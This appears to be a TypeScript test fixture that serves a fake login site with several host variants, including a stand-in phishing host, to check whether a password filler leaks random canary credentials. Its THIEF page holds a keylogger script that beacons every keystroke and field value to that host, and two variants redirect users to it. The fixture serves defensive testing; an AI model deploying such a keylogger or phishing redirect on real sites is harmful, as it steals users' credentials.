// A site at which tests log in: each host behaves differently, and one belongs to thieves. The server records every request.
import { randomBytes, randomInt } from 'node:crypto'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { text } from 'node:stream/consumers'
import { serveSockets } from './upstreams.ts'
import { totpCode } from '../logins/totp.ts'

const DOMAIN = 'canary-site.test'
const THIEVES = 'canary-site-login.evil.test'
const BASE32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
/** A held page is answered after this time, in case a test does not release it. */
const HELD_MS = 20_000

/**
 * `plain`: name and password. `two`: the two on separate pages. `totp`: also a code. `get`: its form uses GET, so both values are in the address, and the user's page
 * has the name in its address. `lured`: redirects to the thieves. `fleeing`: goes to the thieves when a field gets the focus. Each host repeats the name in its error
 * text.
 */
const HOSTS = ['plain', 'two', 'totp', 'get', 'lured', 'fleeing'] as const
export type CanaryHost = (typeof HOSTS)[number]

export interface CanaryUser {
  username: string
  password: string
  totpSecret: string
}

/** Random values that nobody else can have written. The letters of the name have different widths. */
export function canaries(): CanaryUser {
  return {
    username: `wilmi${randomBytes(4).toString('hex')}mil`,
    password: `Canary-${randomBytes(10).toString('hex')}`,
    totpSecret: Array.from({ length: 32 }, () => BASE32[randomInt(32)]).join(''),
  }
}

export interface CanarySite extends AsyncDisposable {
  port: number
  hosts: string[]
  hostOf(name: CanaryHost): string
  requests: { host: string; method: string; path: string; body: string }[]
  /** The bodies that the thieves received. */
  stolen(): string[]
  /** How many times a form with a password was sent to a host of the site. When a connection breaks before any answer, Chromium repeats the request; that counts once. */
  tries(name: CanaryHost): number
  /** Holds the answers to forms with a password until the returned function is called. Until then the page stays filled in. */
  hold(): () => void
}

const page = (body: string) =>
  `<!doctype html><html lang="en"><title>Canary</title><style>body{margin:20px;font:16px monospace;caret-color:transparent}
  input{display:block;width:500px;height:40px;border:0;outline:0;margin:10px 0;font:28px monospace;background:#ff0}</style>${body}</html>`
const USER = '<label>User name <input name="username" autocomplete="username"></label>'
const PASSWORD = '<label>Password <input name="password" type="password" autocomplete="current-password"></label>'
const form = (action: string, fields: string, error = '', method = 'post') =>
  page(`<h1>Log in</h1>${error && `<p role="alert">${error}</p>`}<form method="${method}" action="${action}">${fields}<input type="hidden" name="sending"><button>Log in</button></form>
    <script>document.querySelector('form').addEventListener('submit', ({ target }) => (target.elements.sending.value = Math.random()))</script>`)
const CODE = '<label>Code of your authenticator app <input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code"></label>'
/** Sends every key and every value of its fields to the thieves' server. */
const THIEF = `${form('/login', USER + PASSWORD)}<script>
const tell = (what) => navigator.sendBeacon('/key', what)
addEventListener('keydown', (event) => tell(event.key), true)
addEventListener('input', (event) => tell(event.target.value), true)
document.querySelector('input').focus()</script>`

export async function startCanarySite(user: CanaryUser): Promise<CanarySite> {
  const requests: CanarySite['requests'] = []
  const sessions = new Map<string, Set<string>>()
  let held: Promise<void> | undefined

  async function answer(incoming: IncomingMessage, reply: ServerResponse): Promise<void> {
    const host = incoming.headers.host!.replace(/:\d+$/, '')
    const { pathname, searchParams } = new URL(incoming.url!, 'http://x')
    const body = incoming.method === 'POST' ? await text(incoming) : ''
    requests.push({ host, method: incoming.method!, path: incoming.url!, body })
    const show = (html: string) => reply.setHeader('cache-control', 'no-store').setHeader('content-type', 'text/html; charset=utf-8').end(html)
    if (host === THIEVES) return void show(THIEF)
    const name = host.replace(`.${DOMAIN}`, '') as CanaryHost
    const sent = name === 'get' ? searchParams : new URLSearchParams(body)
    const key = /canary_session=(\w+)/.exec(incoming.headers.cookie ?? '')?.[1] ?? randomBytes(16).toString('hex')
    const steps = sessions.get(key) ?? new Set<string>()
    const go = (location: string, mark: string) => {
      sessions.set(key, steps.add(mark))
      reply.writeHead(303, { location, 'set-cookie': `canary_session=${key}; Path=/; HttpOnly; Max-Age=86400` }).end()
    }
    if (sent.has('password') && held) await held
    if (name === 'get' && steps.has('in') && pathname !== '/home') return void reply.writeHead(303, { location: `/home?user=${user.username}` }).end()
    if (steps.has('in')) return void show(page('<h1>Welcome</h1><a href="/logout">Log out</a>'))
    if (name === 'lured') return void reply.writeHead(303, { location: `http://${THIEVES}/login` }).end()
    if (pathname === '/code' && steps.has('password')) {
      if (sent.get('code') === totpCode(user.totpSecret)) return go('/', 'in')
      return void show(form('/code', CODE, body && 'That code is wrong.'))
    }
    if (name === 'two' && sent.has('username')) return go('/password', 'name')
    if (sent.has('password')) {
      const isRight = sent.get('password') === user.password && (name === 'two' ? steps.has('name') : sent.get('username') === user.username)
      if (isRight && name === 'get') {
        // The user's page, at the address that contains the password.
        sessions.set(key, steps.add('in'))
        reply.setHeader('set-cookie', `canary_session=${key}; Path=/; HttpOnly; Max-Age=86400`)
        return void show(page('<h1>Welcome</h1><a href="/logout">Log out</a>'))
      }
      if (isRight) return name === 'totp' ? go('/code', 'password') : go('/', 'in')
    }
    const error = sent.has('password') ? `The password for the user ${sent.get('username') ?? user.username} is wrong.` : ''
    if (name === 'two') return void show(pathname === '/password' && steps.has('name') ? form('/password', PASSWORD, error) : form('/login', USER))
    const flee = name === 'fleeing' ? `<script>addEventListener('focusin', () => (location = 'http://${THIEVES}/login'))</script>` : ''
    show(form('/login', USER + PASSWORD, error, name === 'get' ? 'get' : 'post') + flee)
  }

  const served = await serveSockets(createServer((incoming, reply) => void answer(incoming, reply).catch(() => reply.destroy())))
  const hostOf = (name: CanaryHost) => `${name}.${DOMAIN}`
  return {
    port: served.port,
    hosts: [...HOSTS.map(hostOf), THIEVES],
    hostOf,
    requests,
    stolen: () => requests.filter(({ host, body }) => host === THIEVES && body !== '').map(({ body }) => body),
    tries(name) {
      const sent = requests.filter(({ host, body }) => host === hostOf(name) && new URLSearchParams(body).has('password'))
      return new Set(sent.map(({ body }, index) => new URLSearchParams(body).get('sending') || index)).size
    },
    hold() {
      const { promise, resolve } = Promise.withResolvers<void>()
      const timer = setTimeout(resolve, HELD_MS)
      held = promise
      return () => {
        held = undefined
        clearTimeout(timer)
        resolve()
      }
    },
    [Symbol.asyncDispose]: () => served[Symbol.asyncDispose](),
  }
}
